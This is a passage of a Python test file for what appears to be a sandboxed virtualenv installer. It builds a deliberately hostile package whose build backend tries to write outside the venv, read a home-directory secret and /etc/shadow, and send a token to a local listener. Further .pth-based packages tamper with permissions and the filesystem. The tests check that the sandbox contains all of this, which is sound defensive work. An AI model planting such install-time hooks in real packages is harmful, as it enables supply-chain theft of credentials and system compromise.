            return {{"data": f.read()}}
    return go

def _connect():
    with socket.create_connection(("127.0.0.1", PORT), timeout=5) as s:
        s.sendall(TOKEN.encode())
    return {{}}

def attack(targets):
    return {{
        "write": {{t: _try(_write(t)) for t in targets}},
        "secret": _try(_read(SECRET)),
        "connect": _try(_connect),
        "shadow": _try(_read("/etc/shadow")),
    }}

def before_build():
    # Also next to the venv being built: the store holds spr's markers.
    store = os.path.dirname(sys.prefix)
    report = attack(TARGETS + [os.path.join(store, "pwned-" + TOKEN),
                               os.path.join(store, "0123456789abcdef.json")])
    report["prefix"] = sys.prefix
    report["uid"] = os.getuid()
    return report
'''


class Listener:
    """A TCP listener on 127.0.0.1 that records what connections send."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.received = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                data = b""
                try:
                    while chunk := conn.recv(4096):
                        data += chunk
                except OSError:
                    pass
                self.received.append(data.decode("utf-8", "replace"))

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self.thread.join(10)


class IndexHandler(http.server.SimpleHTTPRequestHandler):
    """Serves a directory; records the paths asked for, logs nothing."""
    requested = []

    def do_GET(self):
        self.requested.append(self.path)
        super().do_GET()

    def log_message(self, *args):
        pass


@unittest.skipIf(ENGINE != "local", "--venv builds with the LocalEngine's sandbox")
@unittest.skipIf(DEGRADED, "without namespaces the install shares the host's /tmp and network")
class InstallSandboxTest(SprTestCase):
    """A hostile sdist: its in-tree build backend, run by pip inside the
    install's sandbox, tries to write outside the venv, read a secret in
    the caller's home (/root), reach a listener on the host and read
    /etc/shadow, and puts what it got in the package it builds
    (evil.REPORT)."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = make_tmp("spr-env-evil-")
        cls.token = secrets.token_hex(8)
        cls.host_dir = make_tmp("spr-evil-host-")     # a host dir under /tmp
        cls.sdists = os.path.join(cls.tmp, "sdists")  # --pip-find-links: shown read-only
        os.mkdir(cls.sdists, 0o755)
        cls.secret_path = os.path.join(HOME, f".spr-test-secret-{cls.token}")
        cls.secret = f"secret-{secrets.token_hex(16)}"
        fd = os.open(cls.secret_path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        with os.fdopen(fd, "w") as f:
            f.write(cls.secret)
        cls.root_target = os.path.join(HOME, f"spr-evil-{cls.token}")
        cls.targets = [os.path.join(cls.host_dir, "pwned"), cls.root_target,
                       os.path.join(cls.tmp, "pwned"), os.path.join(cls.sdists, "pwned")]
        # A host directory the sandbox shows (read-only): the system's
        # site-packages, where a file would reach every later Python.
        if os.access(SYSTEM_SITE, os.W_OK):
            cls.targets.append(os.path.join(SYSTEM_SITE, f"spr-evil-{cls.token}"))
        cls.listener = Listener()
        body = EVIL_BODY.format(targets=cls.targets, secret=cls.secret_path,
                                port=cls.listener.port, token=cls.token)
        cls.backend = backend_source("evil", "1.0", body)
        cls.sdist = make_sdist(cls.sdists, "evil", "1.0", cls.backend)
        cls.control_dir = os.path.join(cls.tmp, "control")
        os.mkdir(cls.control_dir)
        with open(os.path.join(cls.control_dir, "backend.py"), "w") as f:
            f.write(cls.backend)
        cls.http = None

    @classmethod
    def tearDownClass(cls):
        cls.listener.close()
        if cls.http:
            cls.http.shutdown()
            cls.http.server_close()
        for path in [cls.secret_path] + cls.targets:
            try:
                os.unlink(path)
            except FileNotFoundError:
                pass
        shutil.rmtree(cls.host_dir, ignore_errors=True)
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def setUp(self):
        self.listener.received.clear()
        self.addCleanup(self.remove_targets)

    def remove_targets(self):
        for path in self.targets:
            try:
                os.unlink(path)
            except FileNotFoundError:
                pass

    def prove_attacks_work(self):
        """The control: the backend's attack run directly on the host,
        as the user running the tests, succeeds at everything."""
        proc = subprocess.run(
            [HOST_PYTHON, "-I", "-c",
             "import json, sys; sys.path.insert(0, sys.argv[1]); import backend;"
             " print(json.dumps(backend.attack(backend.TARGETS)))", self.control_dir],
            capture_output=True, text=True, timeout=60)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        report = json.loads(proc.stdout)
        for target in self.targets:
            self.assertTrue(report["write"][target]["ok"], report)
            with open(target) as f:
                self.assertEqual(f.read(), self.token)
        self.assertEqual(report["secret"], {"ok": True, "data": self.secret})
        self.assertTrue(report["connect"]["ok"], report)
        if IS_ROOT:  # /etc/shadow is root's (and group shadow's)
            self.assertTrue(report["shadow"]["ok"], report)
        deadline = time.monotonic() + 10
        while self.token not in self.listener.received and time.monotonic() < deadline:
            time.sleep(0.05)
        self.assertIn(self.token, self.listener.received)
        self.remove_targets()
        self.listener.received.clear()

    def install_evil(self, venv_dir, source_args):
        r = spr_run("import sys, evil\nresult = [evil.REPORT, sys.prefix]",
                    args=["--venv", venv_dir, "--package", "evil==1.0", *source_args])
        self.assertOk(r)  # the install itself succeeded
        report, prefix = r["result"]
        store = store_of(venv_dir)
        self.assertEqual(os.path.dirname(prefix), store)
        self.assertEqual(report["prefix"], prefix, report)  # pip built it in the new venv
        self.assertNotEqual(report["uid"], 0, report)
        # The files it wrote are the caller's now; the marker says what is there.
        self.assertEqual(foreign_owned(store), [])
        self.assertEqual(read_marker(venv_dir)["installed"].get("evil"), "1.0")
        return report, store

    def assertContained(self, report, store):
        """Nothing written outside the venv, the caller's home not
        readable, no shadow: whatever the network."""
        # Under /tmp (the sandbox's own tmpfs) a write may succeed where
        # the backend looks; what counts is that nothing reached the host.
        for target in self.targets:
            with self.subTest(target=target):
                self.assertFalse(os.path.lexists(target), target)
                if not target.startswith("/tmp/"):
                    self.assertFalse(report["write"][target]["ok"], report)
        self.assertEqual([n for n in os.listdir(store) if n.startswith("pwned")], [])
        self.assertFalse(os.path.lexists(os.path.join(store, "0123456789abcdef.json")))
        self.assertFalse(report["secret"]["ok"], report)
        self.assertNotIn(self.secret, json.dumps(report))
        self.assertFalse(report["shadow"]["ok"], report)
        self.assertIn(report["shadow"]["errno"], (errno.ENOENT, errno.EACCES), report)

    def test_build_without_index_is_contained(self):
        """--pip-no-index: the install has no network at all."""
        self.prove_attacks_work()
        report, store = self.install_evil(os.path.join(self.tmp, "noindex", "env"),
                                          ["--pip-no-index", "--pip-find-links", self.sdists])
        self.assertContained(report, store)
        self.assertFalse(report["connect"]["ok"], report)
        time.sleep(0.2)
        self.assertEqual(self.listener.received, [])

    def test_build_from_an_index_is_contained(self):
        """--pip-index-url: the install reaches the index over the host's
        network (documented: network only as the install needs it, which
        for an index is the host's), so the backend can connect to a host
        port too; it still writes nothing outside the venv and reads
        nothing of the caller's home (/root)."""
        self.prove_attacks_work()
        web = os.path.join(self.tmp, "web")
        os.makedirs(os.path.join(web, "simple", "evil"))
        os.makedirs(os.path.join(web, "packages"))
        shutil.copy(self.sdist, os.path.join(web, "packages"))
        with open(self.sdist, "rb") as f:
            digest = hashlib.sha256(f.read()).hexdigest()
        with open(os.path.join(web, "simple", "index.html"), "w") as f:
            f.write('<!DOCTYPE html><html><body><a href="evil/">evil</a></body></html>\n')
        with open(os.path.join(web, "simple", "evil", "index.html"), "w") as f:
            f.write('<!DOCTYPE html><html><body>'
                    f'<a href="/packages/evil-1.0.tar.gz#sha256={digest}">evil-1.0.tar.gz</a>'
                    '</body></html>\n')
        IndexHandler.requested.clear()
        handler = lambda *a, **kw: IndexHandler(*a, directory=web, **kw)  # noqa: E731
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        type(self).http = server
        threading.Thread(target=server.serve_forever, daemon=True).start()
        url = f"http://127.0.0.1:{server.server_address[1]}/simple/"
        report, store = self.install_evil(os.path.join(self.tmp, "index", "env"),
                                          ["--pip-index-url", url])
        self.assertEqual(read_marker(os.path.join(self.tmp, "index", "env"))["pip"],
                         {"index_url": url, "no_index": False})
        # pip found it through the index (nothing else to install from).
        self.assertIn("/simple/evil/", IndexHandler.requested)
        self.assertIn("/packages/evil-1.0.tar.gz", IndexHandler.requested)
        self.assertContained(report, store)
        # The host's network, as documented: the listener was reached.
        self.assertTrue(report["connect"]["ok"], report)
        self.assertIn(self.token, self.listener.received)


if __name__ == "__main__":
    unittest.main()


# ---- what an install may leave, and where spr keeps venvs ---------------------------

def make_pth_wheel(directory, name, version, pth_code):
    """A wheel whose top-level NAME.pth runs pth_code whenever site runs
    in the venv: in the install's last step (it asks the new venv's
    interpreter what is installed), so after pip and the build."""
    path = make_wheel(directory, name, version, "VALUE = 1\n")
    with zipfile.ZipFile(path, "a") as z:
        z.writestr(f"{name}.pth", "import os, sys; " + pth_code + "\n")
    return path


@unittest.skipIf(ENGINE != "local", "--venv builds with the LocalEngine's sandbox")
class WhatAnInstallLeavesTest(SprTestCase):
    """An installed package's code runs at install time and may shape the
    venv: nothing it leaves may make the venv writable by others, hang or
    act on the host when spr reads it, or outlast a failed build."""

    def setUp(self):
        self.tmp = make_tmp("spr-env-leaves-")
        self.addCleanup(shutil.rmtree, self.tmp, True)
        self.wheels = os.path.join(self.tmp, "wheels")
        os.mkdir(self.wheels)

    def build(self, name, pth_code):
        make_pth_wheel(self.wheels, name, "1.0", pth_code)
        venv_dir = os.path.join(self.tmp, name, "env")
        run = spr_run(f"import {name}\nresult = {name}.VALUE",
                      args=venv_args(venv_dir, [f"{name}==1.0"], self.wheels), timeout=300)
        return venv_dir, run

    def test_world_writable_modes_are_cleaned(self):
        venv_dir, run = self.build(
            "chmodder", "[os.chmod(p, 0o777 if os.path.isdir(p) else 0o666) for p in "
                        "[sys.prefix, *[os.path.join(d, n) for d, ds, fs in os.walk(sys.prefix) "
                        "for n in ds + fs if not os.path.islink(os.path.join(d, n))]]]")
        self.assertOk(run, 1)
        prefix = os.path.realpath(venv_dir)
        writable = []
        for d, ds, fs in os.walk(prefix):
            for p in [d] + [os.path.join(d, n) for n in ds + fs]:
                st = os.lstat(p)
                if not stat_islink(st) and st.st_mode & 0o022:
                    writable.append((p, oct(st.st_mode)))
        self.assertEqual(writable, [], "the install left the venv writable by others")

    def test_special_files_fail_the_install(self):
        """A fifo where spr reads pyvenv.cfg would hang the next engine's
        start (root opening what the package chose): the install fails."""
        venv_dir, run = self.build(
            "fifomaker", "p = os.path.join(sys.prefix, 'bin', 'pyvenv.cfg'); "
                         "os.path.lexists(p) or os.mkfifo(p)")
        self.assertFailed(run, 125)
        self.assertIn("what a venv may not hold", run["error"])
        self.assertFalse(os.path.lexists(venv_dir))
        self.assertEqual(keys_in(store_of(venv_dir)), set())

    def test_deep_tree_fails_and_goes(self):
        venv_dir, run = self.build(
            "deepdirs", "p = os.path.join(sys.prefix, 'deep', *['d'] * 300); "
                        "os.path.exists(p) or os.makedirs(p)")
        self.assertFailed(run, 125)
        self.assertIn("deeper than 256", run["error"])
        self.assertFalse(os.path.lexists(venv_dir))
        self.assertEqual(keys_in(store_of(venv_dir)), set())

    def test_a_place_others_can_change_is_refused(self):
        make_wheel(self.wheels, "plain", "1.0", "VALUE = 1\n")
        # A directory anyone may rename in (not sticky): refused.
        open_dir = os.path.join(self.tmp, "open")
        os.mkdir(open_dir)
        os.chmod(open_dir, 0o777)
        run = spr_run("result = 1", args=venv_args(os.path.join(open_dir, "env"), ["plain==1.0"],
                                                   self.wheels))
        self.assertFailed(run, 125)
        self.assertIn(f"the directory holding venv_dir ({open_dir})", run["error"])
        self.assertEqual(os.listdir(open_dir), [])
        # Sticky (as /tmp): only an entry's owner may rename it: fine.
        os.chmod(open_dir, 0o1777)
        run = spr_run("import plain\nresult = plain.VALUE",
                      args=venv_args(os.path.join(open_dir, "env"), ["plain==1.0"], self.wheels),
                      timeout=300)
        self.assertOk(run, 1)
        # A store someone else made (or made writable) is not used.
        theirs = os.path.join(self.tmp, "theirs")
        os.makedirs(os.path.join(theirs, ".env.spr"))
        os.chmod(os.path.join(theirs, ".env.spr"), 0o777)
        run = spr_run("result = 1", args=venv_args(os.path.join(theirs, "env"), ["plain==1.0"],
                                                   self.wheels))
        self.assertFailed(run, 125)
        self.assertIn(f"{theirs}/.env.spr is not a directory of uid {os.geteuid()}", run["error"])
        self.assertEqual(os.listdir(os.path.join(theirs, ".env.spr")), [])


def stat_islink(st):
    import stat as _stat
    return _stat.S_ISLNK(st.st_mode)
